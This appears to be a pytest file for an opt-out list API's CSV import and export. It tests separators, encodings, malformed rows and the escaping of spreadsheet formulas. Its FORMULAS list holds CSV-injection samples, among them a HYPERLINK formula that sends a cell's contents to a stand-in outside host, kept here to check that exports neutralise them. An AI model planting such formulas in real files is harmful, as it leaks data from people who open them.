"""Lists of numbers as spreadsheets and people write them, and what is exported read in again unchanged."""

import csv
import io

import pytest

from tests.support.api import LANDLINE, TO

A, B, C, D = "+14155550131", "+14155550132", "+14155550138", "+14155550139"
FORMULAS = [
    '=HYPERLINK("https://example.com?"&A1;"open")',
    "+1 said so",
    "-5 stars",
    "@SUM(1)",
    "＝1+1",  # noqa: RUF001 - full-width, which some spreadsheets take for a formula too
]
NOTES = ["'=1+1", "''=1+1", "'+14155550123", "+14155550123", "'quoted'", "O'Brien", 'a "b", c;d', "two  spaces", "नाम"]


def put(caller, number, **order):
    answer = caller.request("PUT", f"/v1/opt-outs/{number.replace('+', '%2B')}", order)
    assert answer.status_code == 200, answer.text


def load(caller, content):
    data = content if isinstance(content, bytes) else content.encode()
    path, headers = "/v1/opt-outs/import", {"X-API-Key": caller.key}
    return caller.app.test_client().post(path, data=data, headers=headers, content_type="text/csv")


def entries(caller):
    data = caller.get("/v1/opt-outs?limit=100").get_json()["data"]
    return {each["number"]: (each["from"], each["reason"]) for each in data}


def fault(answer):
    assert answer.status_code == 422, answer.text
    ((message),) = [each["message"] for each in answer.get_json()["errors"]]
    return message


def test_what_is_exported_can_be_imported_again_unchanged(app, caller, make_caller):
    reasons = [*FORMULAS, *NOTES, None]
    for place, reason in enumerate(reasons):
        put(caller, f"+1415555{3000 + place}", **({} if reason is None else {"reason": reason}))
    put(caller, TO, scope="sender", reason=FORMULAS[0])
    exported = caller.get("/v1/opt-outs/export").data
    other = make_caller(app)
    told = load(other, exported).get_json()
    assert (told["added"], told["rejected"]) == (len(reasons) + 1, 0)
    assert entries(other) == entries(caller)
    assert entries(other)["+14155553000"] == (None, FORMULAS[0])
    assert entries(other)[TO] == (LANDLINE, FORMULAS[0])


def test_no_cell_of_an_export_is_a_formula_and_a_number_keeps_its_plus(caller):
    for place, reason in enumerate(FORMULAS):
        put(caller, f"+1415555{3000 + place}", reason=reason)
    rows = list(csv.DictReader(io.StringIO(caller.get("/v1/opt-outs/export").text)))
    assert sorted(row["reason"] for row in rows) == sorted(f"'{reason}" for reason in FORMULAS)
    assert {row["number"][:8] for row in rows} == {"+1415555"}


@pytest.mark.parametrize(
    "content",
    [
        f"number;reason\n{A};gone\n{B};\n",
        f"number\treason\n{A}\tgone\n{B}\t\n",
        f"number,reason\r{A},gone\r{B},\r",
        f"number,reason\r\n{A},gone\r\n{B},",
        f"number,reason\r\n{A},gone\n{B},\r\n",
        f"number,reason\n{A},gone\r\n{B},\n\r\n",
        f"\n\r\nnumber,reason\n{A},gone\n{B}\n",
        f",,\nnumber,reason\n{A},gone\n{B}\n",
        f"sep=;\nnumber;reason\n{A};gone\n{B};\n",
        f'\ufeff"sep=\t"\r\nnumber\treason\r\n{A}\tgone\r\n{B}\r\n',
        f"SEP=|\r\nnumber|reason\r\n{A}|gone\r\n{B}\r\n",
        f" Number ,\u00a0REASON\u200b\n{A},gone\n{B}\n",
        f"number,reason,,\n{A},gone,,\n{B},,,\n",
        f"number,reason\n{A},gone,,,\n{B}\n",
        f'"number";"reason"\n"{A}";"gone"\n"{B}"\n',
        f"reason;number;from\ngone;{A}\n;{B};\n",
        f"number;reason\n \u202a{A}\u202c ;gone\n\u00a0{B}\u2060\n",
        f"number,reason\n\u2066{A}\u2069,gone\n\u3000{B},\n",
        f"number,reason\n'{A},gone\n'{B},\n",
        f'\n"reason";"opted_out_at";"number"\ngone;"a, b, c";{A}\n;;{B}\n',
    ],
)
def test_a_list_of_any_spreadsheet_is_read(caller, content):
    told = load(caller, content).get_json()
    assert (told["added"], told["rejected"]) == (2, 0), told
    assert entries(caller) == {A: (None, "gone"), B: (None, None)}


def test_a_cell_that_has_no_column_is_a_fault_of_its_row_alone(caller):
    told = load(caller, f"number,reason\n\n{A},no, thanks\n{B},x\n").get_json()
    assert (told["added"], told["rejected"]) == (1, 1)
    assert told["rejects"] == [{"row": 3, "message": "The row has 3 cells and the header 2."}]
    assert entries(caller) == {B: (None, "x")}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("", "Row 1, the header, must name the columns, and one of them number."),
        ("\n\r\n", "Row 3, the header, must name the columns, and one of them number."),
        (",,\n\n", "Row 3, the header, must name the columns, and one of them number."),
        ("phone\n+14155550123\n", "Row 1, the header, must name the columns, and one of them number."),
        ("\n\nphone;x\n", "Row 3, the header, must name the columns, and one of them number."),
        ("Number, NUMBER\n", "Row 1, the header, names a column twice: number."),
        ("number,Colour\n", "Row 1, the header, names a column that is not known: Colour."),
        (f'number,reason\n{A},"open\n', "Row 2 has a quote that is not closed."),
        (f'number,reason\n{A},"a"b\n', "Row 2 is no CSV: something follows a closing quote"),
        (f"number,reason\n{A},a\rb\n", "Row 2 is no CSV: a line ends in the middle of it"),
        (f"number,reason\r{A},a\nb\r", "Row 2 is no CSV: a line ends in the middle of it"),
        (f"number,reason\n{A},{'x' * 70_000}\n", "Row 2 is longer than 65536 bytes."),
        (b"number\n\n\xff\n", "Row 3 is not in UTF-8."),
        ("number\n+1415\0\n", "Row 2 holds U+0000."),
        (f"number\n{A}\n".encode("utf-16"), "Row 1 is not in UTF-8."),
        ("sep=:\nnumber:reason\n", "Row 1 names a separator that is not known: it may be a comma, a semicolon"),
    ],
)
def test_a_file_that_is_no_list_is_refused_in_plain_words(caller, content, said):
    assert fault(load(caller, content)).startswith(said)
    assert entries(caller) == {}


def test_a_reason_is_the_same_by_hand_and_in_a_file(caller):
    # A narrow space, and a private character: neither is a control character.
    reason = "asked\u202fus \ue000"
    put(caller, A, reason=f" {reason} ")
    told = load(caller, f"number,reason\n{B}, {reason} \n").get_json()
    assert told["rejected"] == 0
    assert entries(caller) == {A: (None, reason), B: (None, reason)}
    # What is dropped around a formula leaves it one, and so it is exported.
    put(caller, C, reason="\t=1")
    load(caller, f"number,reason\n{D},\t=1\n")
    assert entries(caller)[C] == entries(caller)[D] == (None, "=1")
    assert caller.get("/v1/opt-outs/export").text.count(",'=1,") == 2
    bad = load(caller, f'number,reason\n+14155550133,"a\tb"\n+14155550134,{"x" * 256}\n').get_json()
    assert [each["row"] for each in bad["rejects"]] == [2, 3]
    assert "U+0009" in bad["rejects"][0]["message"]
